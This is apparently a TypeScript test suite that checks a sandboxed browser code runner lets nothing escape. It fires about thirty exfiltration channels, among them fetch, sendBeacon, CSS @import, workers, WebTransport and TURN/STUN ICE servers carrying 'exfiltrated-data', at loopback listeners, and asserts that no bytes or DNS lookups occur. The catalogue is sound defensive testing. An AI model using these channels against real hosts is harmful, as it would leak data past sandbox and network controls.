/**
 * @module The egress suite, run against a local Chromium and a browser-server: one code action tries every channel
 * out of the page at once, against TCP and UDP listeners on loopback, in a browser that writes a NetLog. Not one
 * byte may arrive, and the browser's resolver may not be asked for any name the code used.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodeResult } from '../../../src/browser/types.ts';
import { type LoopbackListeners, listenOnLoopback } from '../../helpers/loopback-listeners.ts';
import { createNetLog, type NetLogFile } from '../../helpers/net-log.ts';
import { type BrowserKind, openBrowser } from './browser-under-test.ts';

/** Every channel: its name, and the code (an async arrow body) that tries it against HOST (127.0.0.1:port) or NAME. */
export const CHANNELS: Record<string, string> = {
  fetch: `await fetch('http://HOST/fetch');`,
  'fetch POST no-cors': `await fetch('http://HOST/post', { method: 'POST', mode: 'no-cors', body: 'x' });`,
  'fetch by name': `await fetch('http://NAME-fetch.test:PORT/');`,
  XMLHttpRequest: `await new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.onload = ok; x.onerror = fail; x.send(); });`,
  EventSource: `await new Promise((ok, fail) => { const e = new EventSource('http://HOST/sse'); e.onopen = ok; e.onerror = () => { e.close(); fail(new Error('error')); }; });`,
  image: `await new Promise((ok, fail) => { const i = new Image(); i.onload = ok; i.onerror = fail; i.src = 'http://HOST/i.png'; });`,
  'CSS background': `const d = document.createElement('div'); d.style.backgroundImage = "url('http://HOST/bg.png')"; document.body.append(d); getComputedStyle(d).backgroundImage; await new Promise((r) => setTimeout(r, 300));`,
  'CSS @import': `const s = document.createElement('style'); s.textContent = "@import url('http://HOST/import.css');"; document.head.append(s); await new Promise((r) => setTimeout(r, 300));`,
  font: `await new FontFace('x', "url('http://HOST/font.woff2')").load();`,
  media: `await new Promise((ok, fail) => { const v = document.createElement('video'); v.oncanplay = ok; v.onerror = fail; v.src = 'http://HOST/v.mp4'; });`,
  'form submit': `const f = document.createElement('form'); f.action = 'http://HOST/form'; f.method = 'POST'; document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 300));`,
  'window.open': `window.open('http://HOST/popup');`,
  sendBeacon: `if (!navigator.sendBeacon('http://HOST/beacon', 'x')) throw new Error('refused');`,
  'link prefetch': `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://HOST/prefetch'; document.head.append(l); await new Promise((r) => setTimeout(r, 300));`,
  'link preconnect and dns-prefetch': `for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://NAME-' + rel + '.test:PORT/'; document.head.append(l); } await new Promise((r) => setTimeout(r, 300));`,
  'import()': `await import('http://HOST/module.js');`,
  'script element': `await new Promise((ok, fail) => { const s = document.createElement('script'); s.onload = ok; s.onerror = fail; s.src = 'http://HOST/s.js'; document.head.append(s); });`,
  iframe: `const f = document.createElement('iframe'); f.src = 'http://HOST/frame'; document.body.append(f); await new Promise((r) => setTimeout(r, 300));`,
  'worker from URL': `new Worker('http://HOST/worker.js'); await new Promise((r) => setTimeout(r, 300));`,
  'fetch inside a worker': `await new Promise((ok, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/in-worker').then(() => postMessage('ok'), (e) => postMessage(String(e)))"], { type: 'text/javascript' }))); w.onmessage = (m) => m.data === 'ok' ? ok() : fail(new Error(m.data)); });`,
  SharedWorker: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://HOST/shared')"])));`,
  'service worker': `await navigator.serviceWorker.register('/sw.js');`,
  'WebSocket to the worker host': `await new Promise((ok, fail) => { const w = new WebSocket('ws://HOST/socket'); w.onopen = ok; w.onerror = () => fail(new Error('error')); });`,
  WebTransport: `await new WebTransport('https://HOST/wt').ready;`,
  'TURN over TCP': `await ice(RTCPeerConnection, 'turn:HOST?transport=tcp');`,
  'TURN over TCP by name': `await ice(RTCPeerConnection, 'turn:NAME-turn.test:PORT?transport=tcp');`,
  'TURN over UDP': `await ice(RTCPeerConnection, 'turn:HOST?transport=udp');`,
  STUN: `await ice(RTCPeerConnection, 'stun:NAME-stun.test:PORT');`,
  'RTCPeerConnection in an iframe': `const f = document.createElement('iframe'); document.body.append(f); await ice(f.contentWindow.RTCPeerConnection, 'turn:HOST?transport=tcp');`,
  'RTCPeerConnection in a worker': `await new Promise((ok, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(typeof RTCPeerConnection)"], { type: 'text/javascript' }))); w.onmessage = (m) => m.data === 'function' ? ok() : fail(new Error('absent: ' + m.data)); });`,
};

const ATTACK = `
const ice = async (PeerConnection, url) => {
  const pc = new PeerConnection({ iceServers: [{ urls: url, username: 'exfiltrated-data', credential: 'x' }] });
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((r) => setTimeout(r, 1500));
  pc.close();
};
const channels = CHANNELS;
const outcomes = {};
await Promise.all(Object.entries(channels).map(async ([name, attempt]) => {
  try {
    await Promise.race([attempt(), new Promise((_, fail) => setTimeout(() => fail(new Error('no answer')), 2500))]);
    outcomes[name] = 'no error';
  } catch (error) {
    outcomes[name] = 'failed: ' + String(error && error.message || error).slice(0, 80);
  }
}));
console.log(JSON.stringify(outcomes));
`;

function attackCode(port: number): string {
  const entries = Object.entries(CHANNELS).map(
    ([name, body]) =>
      `${JSON.stringify(name)}: async () => { ${body.replaceAll('HOST', `127.0.0.1:${port}`).replaceAll('NAME', 'egress').replaceAll('PORT', String(port))} }`,
  );
  return ATTACK.replace('CHANNELS', `{\n${entries.join(',\n')}\n}`);
}

/**
 * The browser-level layer alone: a plain page in a new context of the same browser (no frame guard, no operator
 * lockdown) tries TURN over TCP and UDP and STUN, and reports every ICE candidate it gathered.
 */
async function webRtcWithoutPageLockdown(operatorPage: Page, port: number): Promise<string[]> {
  const browser = operatorPage.context().browser() as Browser;
  const context = await browser.newContext();
  try {
    await context.route('**/*', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>plain</title>' }),
    );
    const page = await context.newPage();
    await page.goto('http://plain.localhost/');
    return await page.evaluate(
      async (urls) => {
        const candidates: string[] = [];
        await Promise.all(
          urls.map(async (url) => {
            const pc = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'u', credential: 'c' }] });
            pc.onicecandidate = (event) => {
              if (event.candidate?.candidate) candidates.push(event.candidate.candidate);
            };
            pc.createDataChannel('x');
            await pc.setLocalDescription(await pc.createOffer());
            await new Promise((resolve) => setTimeout(resolve, 1500));
            pc.close();
          }),
        );
        return candidates;
      },
      [
        `turn:127.0.0.1:${port}?transport=tcp`,
        `turn:127.0.0.1:${port}?transport=udp`,
        `stun:egress-plain.test:${port}`,
      ],
    );
  } finally {
    await context.close();
  }
}

export function egressSuite(kind: BrowserKind): void {
  describe(`no egress from a code action (${kind})`, () => {
    let listeners: LoopbackListeners;
    let netLog: NetLogFile;
    let result: CodeResult;
    let unguardedCandidates: string[];

    beforeAll(async () => {
      listeners = await listenOnLoopback();
      netLog = await createNetLog();
      const browser = await openBrowser(kind, { args: netLog.args });
      try {
        const session = await browser.pool.acquire();
        result = await session.runCode(attackCode(listeners.port), { timeoutMs: 20_000 });
        unguardedCandidates = await webRtcWithoutPageLockdown(session.currentPage, listeners.port);
        // Anything queued (beacons, prefetches, ICE) gets time to try before the browser closes.
        await new Promise((resolve) => setTimeout(resolve, 1000));
        await session.release();
      } finally {
        // The NetLog is complete once the browser has closed.
        await browser.close();
      }
    }, 90_000);

    afterAll(async () => {
      await listeners?.close();
      await netLog?.close();
    });

    it(`tries all ${Object.keys(CHANNELS).length} channels in one code action`, () => {
      expect(Object.keys(CHANNELS).length).toBeGreaterThanOrEqual(20);
      expect(result.ok).toBe(true);
      expect(Object.keys(JSON.parse(result.logs[0])).sort()).toEqual(Object.keys(CHANNELS).sort());
    });

    it('lets not one connection, datagram or byte reach a loopback listener', () => {
      expect({ contacts: listeners.contacts(), bytes: listeners.bytes() }).toEqual({ contacts: 0, bytes: 0 });
    });

    it('resolves no name: the resolver is never asked for one the code used, and runs no lookup', async () => {
      const requests = await netLog.resolverRequests();
      expect(requests.filter((host) => host.includes('egress'))).toEqual([]);
      expect(await netLog.resolverJobs()).toBe(0);
    });

    it('closes WebRTC at the browser level too: a page without the lockdown gathers no ICE candidate', () => {
      expect(unguardedCandidates).toEqual([]);
    });

    it('gives code no WebRTC in the page, its workers or its frames', () => {
      const outcomes = JSON.parse(result.logs[0]) as Record<string, string>;
      for (const name of ['TURN over TCP', 'TURN over UDP', 'STUN', 'RTCPeerConnection in an iframe']) {
        expect(outcomes[name], name).toMatch(/RTCPeerConnection is not defined|not a constructor/);
      }
      expect(outcomes['RTCPeerConnection in a worker']).toBe('failed: absent: undefined');
    });
  });
}
